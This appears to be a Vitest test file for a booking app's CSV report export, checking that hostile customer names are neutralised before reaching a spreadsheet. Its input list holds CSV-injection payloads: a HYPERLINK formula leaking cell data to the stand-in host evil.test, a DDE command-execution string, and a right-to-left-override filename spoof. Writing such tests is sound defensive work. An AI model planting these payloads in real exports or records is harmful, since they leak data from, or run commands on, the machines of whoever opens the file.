import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { engine } from '../helpers/app';
import { buildCustomer } from '../helpers/customers-factories';
import { signedInByRole, testAppForFile } from '../helpers/per-file';
import { monthBooking } from './month-factories';

const t = testAppForFile();
const as = signedInByRole(t);

/** Names a walk-in or an online customer can choose, each one a formula or a spoof in a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")',
  '-2+3',
  '+971501234567',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  'Ali \u202Egnp.exe',
];

beforeAll(async () => {
  const customerId = (await buildCustomer(t.ctx)).id;
  for (const [i, customerName] of HOSTILE.entries())
    await monthBooking(t, {
      customerId,
      customerName,
      itemId: 2,
      priceAed: 150,
      paidOnlineAt: `2026-03-0${i + 1}T06:00:00Z`,
      store: 'Marina Store',
      receivedAt: `2026-03-0${i + 1}T05:00:00Z`,
    });
});

describe(`GET /api/reports/jobs.csv with hostile customer names (${engine})`, () => {
  it('writes every name as text a spreadsheet will not run, and amounts and ids still as numbers', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/reports/jobs.csv?from=2026-03-01&to=2026-03-31',
      headers: as.admin,
    });
    expect(res.statusCode).toBe(200);
    const jobs = (parse(res.body, { bom: true, relax_quotes: true }) as string[][]).slice(1);
    expect(jobs.map((r) => r[6])).toEqual([
      '\'=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")',
      "'-2+3",
      "'+971501234567",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      'Ali gnp.exe',
    ]);
    for (const row of jobs) {
      expect(row[0]).toMatch(/^\d+$/);
      expect(row[10]).toBe('150.00');
    }
    expect(res.body).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  });
});
